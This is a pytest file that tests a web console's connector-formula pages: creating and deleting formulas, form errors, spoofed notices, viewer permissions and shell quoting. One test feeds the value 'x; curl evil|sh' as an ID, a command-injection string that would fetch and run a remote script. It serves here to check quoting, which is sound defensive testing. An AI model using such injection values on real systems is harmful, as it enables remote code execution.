"""Formulas on pages, at the real sandbox."""

from __future__ import annotations

import re
import shlex
from html import unescape
from typing import Any

import pytest

from service.operate.audit import trail
from service.operate.formulas import list_formulas
from service.web.console.formula_pages import command_to_remove
from service.web.console.rendering import FOLDER
from tests.web.console.asked import form_on, submit

pytestmark = pytest.mark.anyio

FORMULAS = "/console/formulas"
NEW, REMOVE = f"{FORMULAS}/new", f"{FORMULAS}/remove"

ONE: dict[str, Any] = {
    "name": "Sales' texts",
    "configuration": [
        {"key": "texts", "name": "Texts of", "type": "elementInstance"},
        {"key": "every", "name": "Minutes", "type": "value"},
    ],
}

TWO: dict[str, Any] = {
    "name": "Copy",
    "configuration": [
        {"key": "source", "name": "Source", "type": "elementInstance"},
        {"key": "target", "name": "Target", "type": "elementInstance"},
    ],
}


def problems_of(page: str) -> dict[str, str]:
    """Return what a page says is wrong, by its fields."""
    found = re.findall(r'class="problem" id="([\w.-]+)-problem" role="alert">(.*?)</p>', page)
    return {name: unescape(text) for name, text in found}


async def test_a_formula_is_put_to_work_listed_and_ended(
    connected: Any, connected_desk: Any, deployment: Any, platform: Any
) -> None:
    """The documentation's next step could not be taken in a browser."""
    empty = (await connected.get(FORMULAS)).text
    assert "Open Connectors has none yet." in empty
    template = str((await platform("POST", "/formulas", ONE))["id"])
    page = (await connected.get(FORMULAS)).text
    assert "Sales&#39; texts" in page
    assert f"{NEW}?template={template}" in page

    form = (await connected.get(f"{NEW}?template={template}")).text
    found = await list_formulas(deployment)
    assert f"This instance, {found.instance}" in form
    missing = await submit(connected, form, NEW, {"name": "nightly"})
    assert missing.status_code == 400
    assert problems_of(missing.text) == {
        "variable-2": "Say a value; the formula does not work without."
    }
    assert form_on(missing.text, NEW)["name"] == "nightly"
    assert (await list_formulas(deployment)).at_work == ()

    made = await submit(connected, missing.text, NEW, {"set:every": "5"})
    assert made.status_code == 303
    (at_work,) = (await list_formulas(deployment)).at_work
    assert at_work.name == "nightly"
    listed = (await connected.get(made.headers["location"])).text
    assert f"Formula {at_work.id} (nightly) is at work on the instance." in listed

    question = (await connected.get(f"{REMOVE}?id={at_work.id}")).text
    assert f"Delete formula {at_work.id}?" in question
    gone = await submit(connected, question, REMOVE, {})
    assert (
        f"Formula {at_work.id} is deleted." in (await connected.get(gone.headers["location"])).text
    )
    assert (await list_formulas(deployment)).at_work == ()
    never = (await connected.get(f"{FORMULAS}?removed=it has been hacked, and all")).text
    assert "is deleted" not in never
    again = await submit(connected, question, REMOVE, {})
    assert again.status_code == 404
    removed, created, *_ = await trail(connected_desk.redis)
    assert (removed.what, removed.about) == ("connector formula remove", f"formula {at_work.id}")
    assert created.what == "connector formula create"
    assert created.about == f"formula {at_work.id} of template {template}"


@pytest.mark.parametrize(
    ("typed", "said"),
    [
        ({}, {"variable-2": "Say which instance; only one is left empty, for this one."}),
        ({"source": "8", "target": "9"}, {"variable-1": "Leave one empty, for instance {ours}."}),
    ],
    ids=["none is said", "another for each"],
)
async def test_of_several_instances_one_is_ours(
    connected: Any, deployment: Any, platform: Any, typed: dict[str, str], said: dict[str, str]
) -> None:
    """A formula would be made that has nothing to do with the instance, or is refused unread."""
    template = str((await platform("POST", "/formulas", TWO))["id"])
    form = (await connected.get(f"{NEW}?template={template}")).text
    values = {f"set:{key}": value for key, value in typed.items()}
    answer = await submit(connected, form, NEW, values)
    ours = (await list_formulas(deployment)).instance
    assert problems_of(answer.text) == {name: text.format(ours=ours) for name, text in said.items()}
    kept = form_on(answer.text, NEW)
    assert {key: kept[key] for key in values} == values


async def test_what_the_connector_refuses_is_said_and_nothing_typed_is_lost(
    connected: Any, platform: Any
) -> None:
    """The values would have to be typed again."""
    template = str((await platform("POST", "/formulas", TWO))["id"])
    form = (await connected.get(f"{NEW}?template={template}")).text
    answer = await submit(connected, form, NEW, {"set:target": "99999", "name": "copy"})
    assert answer.status_code == 502
    assert "requestId: " in answer.text
    assert form_on(answer.text, NEW)["set:target"] == "99999"
    assert form_on(answer.text, NEW)["name"] == "copy"
    assert "parley connector formula create" in answer.text


async def test_what_is_not_there_is_said(connected: Any, platform: Any) -> None:
    """A link of last month would end at a failure, or somebody else's formula be ended."""
    await platform("POST", "/formulas", ONE)
    for path in (NEW, REMOVE, f"{NEW}?template=9", f"{REMOVE}?id=9"):
        answer = await connected.get(path)
        assert answer.status_code == 404, path
    assert "Sales&#39; texts" in (await connected.get(f"{NEW}?template=9")).text


async def test_a_notice_is_shown_only_where_it_is_true(
    connected: Any, deployment: Any, platform: Any
) -> None:
    """A link could make the page say what nobody did."""
    template = str((await platform("POST", "/formulas", ONE))["id"])
    form = (await connected.get(f"{NEW}?template={template}")).text
    made = await submit(connected, form, NEW, {"set:every": "5"})
    (at_work,) = (await list_formulas(deployment)).at_work
    assert "is at work on the instance." in (await connected.get(made.headers["location"])).text
    for said in (f"removed={at_work.id}", "removed=9", "removed=paid", "made=9", "made=paid"):
        text = (await connected.get(f"{FORMULAS}?{said}")).text
        assert 'class="notice"' not in text, said
        assert "is deleted" not in text, said
        assert "is at work on" not in text, said
    # What was made is said no more once it has ended.
    question = (await connected.get(f"{REMOVE}?id={at_work.id}")).text
    await submit(connected, question, REMOVE, {})
    text = (await connected.get(made.headers["location"])).text
    assert "is at work on the instance." not in text


async def test_a_viewer_sees_formulas_and_does_nothing(
    connected: Any, connected_desk: Any, deployment: Any, platform: Any
) -> None:
    """Who may only look would end what others rely on."""
    template = str((await platform("POST", "/formulas", ONE))["id"])
    form = (await connected.get(f"{NEW}?template={template}")).text
    await submit(connected, form, NEW, {"set:every": "5"})
    (at_work,) = (await list_formulas(deployment)).at_work
    async with connected_desk.browser() as viewer:
        await connected_desk.sign_in(viewer, "viewer")
        page = (await viewer.get(FORMULAS)).text
        assert at_work.id in page
        assert REMOVE not in page
        assert NEW not in page
        csrf = re.findall(r'name="csrf" value="([^"]*)"', page)[0]
        for path in (NEW, REMOVE):
            sent = {"csrf": csrf, "id": at_work.id, "template": template, "set:every": "1"}
            assert (await viewer.post(path, data=sent)).status_code == 403
    assert len((await list_formulas(deployment)).at_work) == 1


def test_the_command_that_ends_a_formula_is_quoted() -> None:
    """Whoever pastes it would run what somebody else wrote."""
    for id_ in ("7", "x; curl evil|sh"):
        command = command_to_remove(id_)
        assert shlex.split(command) == ["parley", "connector", "formula", "remove", id_]


def test_no_template_puts_a_command_together() -> None:
    """It would not be quoted; pages get their commands from the views, which do."""
    calls = [
        (page.name, call)
        for page in sorted(FOLDER.glob("*.html"))
        for call in re.findall(r"\{\{ by_command\((.*?)\) \}\}", page.read_text("utf-8"))
    ]
    assert len(calls) > 20
    assert [call for call in calls if "~" in call[1]] == []
